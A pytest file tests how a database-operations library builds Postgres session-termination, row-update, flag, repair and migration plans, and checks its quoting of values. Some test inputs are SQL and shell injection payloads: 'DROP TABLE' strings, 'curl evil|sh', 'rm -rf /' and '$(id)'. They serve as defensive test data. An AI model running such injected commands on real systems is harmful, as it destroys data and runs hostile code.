"""Plans of mutations: exact SQL for exactly the targets that were seen, and nothing else."""

from __future__ import annotations

from typing import Any

import pandas as pd
import pytest

from rbkernel import actions
from rbkernel.errors import ParameterError
from rbkernel.reconciliation import Question
from rbkernel.sources.postgres.connection.driver import quote_literal
from rbkernel.sources.postgres.diagnosis import judged
from rbkernel.sources.postgres.situation import Backend, Situation

STARTED = pd.Timestamp("2026-11-20 03:02:11.000001", tz="UTC")
SESSIONS = pd.DataFrame(
    {
        "pid": pd.Series([101, 102], dtype="Int64"),
        "backend_start": [STARTED, STARTED],
        "application": ["shop'; DROP TABLE x; --", None],
        "query_start": [STARTED, STARTED],
        "query": ["UPDATE orders", None],
    }
)
DIFFERENCES = pd.DataFrame(
    {
        "key": pd.Series([4, 8, 9], dtype="Int64"),
        "kind": ["missing", "extra", "changed"],
        "columns": ["", "", "status"],
    }
)
DIFFERENCES.attrs["compared"] = ("id", "status")


class TestSessions:
    def test_each_is_matched_by_pid_and_start(self) -> None:
        plan = actions.terminate_sessions("orders", SESSIONS)
        for pid in (101, 102):
            pair = f"({pid}::int, '2026-11-20 03:02:11.000001+00:00'::pg_catalog.timestamptz)"
            assert pair in plan.sql
        assert "pg_terminate_backend(a.pid)" in plan.sql
        assert "a.pid OPERATOR(pg_catalog.<>) pg_catalog.pg_backend_pid()" in plan.sql
        assert [target["pid"] for target in plan.targets] == [101, 102]
        assert plan.targets[1]["application"] is None
        assert "DROP TABLE" not in plan.sql

    def test_cancel_names_the_very_query(self) -> None:
        plan = actions.cancel_queries("orders", SESSIONS)
        assert "(a.pid, a.backend_start, a.query_start)" in plan.sql
        assert "pg_cancel_backend" in plan.sql

    def test_one_plan_does_to_each_what_its_state_asks_for(self) -> None:
        rests = Backend(pid=101, backend_start=STARTED, state="idle in transaction")
        runs = Backend(pid=102, backend_start=STARTED, state="active", query_start=STARTED)
        waits = Backend(pid=103, locktype="relation", wait_s=9.0, blocked_by=(101, 102))
        seen = Situation(connection="orders", at="", backends=(rests, runs, waits), usable=50)
        plan = actions.terminate_sessions("orders", judged(seen))
        assert plan.title == "Terminate 1 session, cancel 1 query"
        first, second = plan.sql.split("UNION ALL")
        assert "pg_terminate_backend" in first
        assert "(101::int" in first
        assert "pg_cancel_backend" in second
        assert "(102::int" in second
        assert [target["pid"] for target in plan.targets] == [101, 102]
        assert actions.cancel_queries("orders", judged(seen)).sql == ""

    @pytest.mark.parametrize("make", [actions.terminate_sessions, actions.cancel_queries])
    def test_nobody_is_no_sql(self, make: object) -> None:
        assert callable(make)
        plan = make("orders", SESSIONS.head(0))
        assert plan.sql == ""
        assert plan.targets == ()

    def test_the_id_is_bound_to_the_targets(self) -> None:
        whole = actions.terminate_sessions("orders", SESSIONS)
        assert whole.id == actions.terminate_sessions("orders", SESSIONS).id
        assert whole.id != actions.terminate_sessions("orders", SESSIONS.head(1)).id
        assert whole.id != actions.terminate_sessions("users", SESSIONS).id


class TestMessages:
    def test_each_status_is_kept_in_its_case_and_restored(self) -> None:
        statuses = ["PENDING", "SENDING", "PENDING"]
        messages = pd.DataFrame({"id": ["1", "2", "3"], "status": statuses})
        names = {"relation": "t", "id_column": "id", "status_column": "state"}
        plan = actions.set_failed("orders", messages.assign(**names, error_column=None))
        pending, sending = plan.sql.split(";\n")
        for part, ids, was in ((pending, '{"1","3"}', "PENDING"), (sending, '{"2"}', "SENDING")):
            assert "SET state = 'FAILED'" in part
            assert f"id::text = ANY ('{ids}')\n  AND state::text = '{was}'" in part
        assert plan.undo == (
            "UPDATE t SET state = 'PENDING'\n"
            "WHERE id::text = ANY ('{\"1\",\"3\"}') AND state::text = 'FAILED';\n"
            "UPDATE t SET state = 'SENDING'\n"
            "WHERE id::text = ANY ('{\"2\"}') AND state::text = 'FAILED';"
        )

    def test_a_message_is_requeued_in_the_case_of_its_status(self) -> None:
        messages = pd.DataFrame({"id": ["1"], "status": ["FAILED"]})
        names = {"relation": "t", "id_column": "id", "status_column": "state"}
        plan = actions.requeue("orders", messages.assign(**names, error_column="why"))
        assert "SET state = 'PENDING', why = concat_ws(' ', why, '[requeued by '" in plan.sql
        [row] = plan.arguments["rows"]
        assert row == {"key": ["1"], "before": {"state": "FAILED"}, "after": {"state": "PENDING"}}


class TestFlag:
    ROWS = pd.DataFrame({"id": [7, 8], "on": [True, None], "limit": [1, 2]})

    def test_the_sql_expects_the_present_values(self) -> None:
        plan = actions.set_flag("orders", self.ROWS, {"on": None}, table="shop.flags")
        first, second = plan.sql.split(";\n")
        assert """"id"::text = '7' AND "on"::text IS NOT DISTINCT FROM 'true'""" in first
        assert '"on"::text IS NOT DISTINCT FROM NULL' in second
        assert plan.title == "Set on to NULL in 2 rows of shop.flags"

    @pytest.mark.parametrize(
        ("values", "more", "why"),
        [
            ({"on": True}, {"table": "flags"}, "a table with its schema"),
            ({}, {"table": "shop.flags"}, "columns to set"),
            ({"id": 1}, {"table": "shop.flags"}, "not of the key"),
            ({"off": 1}, {"table": "shop.flags"}, "no column off"),
            ({"on": [1]}, {"table": "shop.flags"}, "have several texts"),
        ],
    )
    def test_what_cannot_be_a_change_of_rows(
        self, values: dict[str, Any], more: dict[str, str], why: str
    ) -> None:
        with pytest.raises(ParameterError, match=why):
            actions.set_flag("orders", self.ROWS, values, **more)


class TestRepairRows:
    def test_it_names_what_it_would_touch(self) -> None:
        asked = Question(source="orders_legacy", target="shop.orders")
        plan = actions.repair_rows(
            DIFFERENCES, db="orders", question=asked, sql="BEGIN;", undo="BEGIN; --"
        )
        assert (
            plan.title
            == "Copy 2 rows from orders_legacy to shop.orders, delete 1 extra row from shop.orders"
        )
        assert [target["key"] for target in plan.targets] == [4, 8, 9]
        assert plan.undo == "BEGIN; --"

    def test_nothing_is_no_sql(self) -> None:
        assert actions.repair_rows(DIFFERENCES.head(0)).sql == ""

    def test_what_cannot_be_written_says_why(self) -> None:
        plan = actions.repair_rows(DIFFERENCES, why="no answer")
        assert plan.sql == "-- no SQL: no answer"


def test_resume_replay_can_be_undone() -> None:
    plan = actions.resume_replay("standby")
    assert plan.sql == "SELECT pg_catalog.pg_wal_replay_resume();"
    assert plan.undo == "SELECT pg_catalog.pg_wal_replay_pause();"
    assert plan.action == "resume_replay"
    assert plan.targets == ()


class TestOfOnesOwn:
    def test_values_are_literals(self) -> None:
        plan = actions.statement("orders", "UPDATE t SET a = :a -- :a", values={"a": "x'; --"})
        assert plan.sql == "UPDATE t SET a = 'x''; --' -- :a"

    @pytest.mark.parametrize("value", [None, "‹PLACEHOLDER: who›"])
    def test_what_is_not_filled_in_leaves_text_that_the_server_refuses(self, value: object) -> None:
        plan = actions.statement("orders", "DELETE FROM t WHERE a = :a", values={"a": value})
        assert not plan.sql.endswith("'")
        assert plan.sql.endswith(("‹PLACEHOLDER: a›", "‹PLACEHOLDER: who›"))
        assert plan.risk.startswith("Fill in first: ")

    @pytest.mark.parametrize(
        "value", ["‹x; curl evil|sh›", "a‹b'; DROP TABLE t", "‹PLACEHOLDER: a›; DROP TABLE t"]
    )
    def test_only_a_whole_placeholder_stays_unquoted(self, value: str) -> None:
        plan = actions.statement("orders", "DELETE FROM t WHERE a = :a", values={"a": value})
        assert plan.sql == f"DELETE FROM t WHERE a = {quote_literal(value)}"
        plan = actions.command("Lock", "lock <account>", values={"<account>": value})
        assert plan.command == "lock <account>"
        assert "<account> is not filled in" in plan.risk

    def test_the_hint_of_a_placeholder_ends_nothing(self) -> None:
        value = "‹PLACEHOLDER: x'; curl evil|sh #›"
        plan = actions.statement("orders", "DELETE FROM t WHERE a = :a", values={"a": value})
        assert plan.sql.endswith("= ‹PLACEHOLDER: x curl evil sh›")
        plan = actions.command("Lock", "lock <account>", values={"<account>": value})
        assert plan.command == "lock ‹PLACEHOLDER: x curl evil sh›"

    def test_a_command_has_the_same_form_for_what_is_not_filled_in(self) -> None:
        plan = actions.command("Delete", "kubectl delete pod <pod>", values={"<pod>": None})
        assert plan.command == "kubectl delete pod ‹PLACEHOLDER: pod›"
        assert plan.risk == "Fill in first: pod."

    @pytest.mark.parametrize("value", ["x; rm -rf /", "$(id)", "a b", "it's", "`id`", "a\nb"])
    def test_a_value_with_a_meaning_to_the_shell_is_not_written_in(self, value: str) -> None:
        plan = actions.command("Restart", "systemctl restart <unit>", values={"<unit>": value})
        assert plan.command == "systemctl restart <unit>"
        assert "<unit> is not filled in" in plan.risk

    def test_another_text_is_another_plan(self) -> None:
        one, two = (actions.command("Restart", f"systemctl restart {unit}") for unit in "ab")
        assert one.id != two.id


class TestMigration:
    @pytest.mark.parametrize(
        ("statements", "transaction", "lock_timeout"),
        [
            ("ALTER TABLE a ADD b int", False, "'2s'"),
            ("ALTER TABLE a ADD b int; UPDATE a SET b = 1 -- all", True, "'2s'"),
            ("DROP INDEX CONCURRENTLY a; REINDEX INDEX CONCURRENTLY b", False, "0"),
            ("VACUUM (ANALYZE) a", False, "0"),
            ("ALTER TABLE a ADD b int; -- CONCURRENTLY", False, "'2s'"),
            ('ALTER TABLE "concurrently" ADD b int', False, "'2s'"),
        ],
    )
    def test_what_it_runs_in(self, statements: str, transaction: bool, lock_timeout: str) -> None:
        first, second, *rest = actions.migration("orders", statements).sql.splitlines()
        assert first == "\\set ON_ERROR_STOP on"
        assert second == f"SET lock_timeout = {lock_timeout};"
        assert (rest[0] == "BEGIN;", rest[-1] == "COMMIT;") == (transaction, transaction)

    def test_a_transaction_of_its_own_is_kept(self) -> None:
        plan = actions.migration("orders", "BEGIN; DROP TABLE a; COMMIT; DROP TABLE b")
        assert plan.sql.count("BEGIN") == 1
        assert "what was committed before it stays" in plan.risk

    def test_what_cannot_run_together(self) -> None:
        both = "ALTER TABLE a ADD b int; CREATE INDEX CONCURRENTLY c ON a (b)"
        plan = actions.migration("orders", both)
        assert plan.sql == ""
        assert "split them" in plan.risk
        assert actions.migration("orders", "").sql == ""
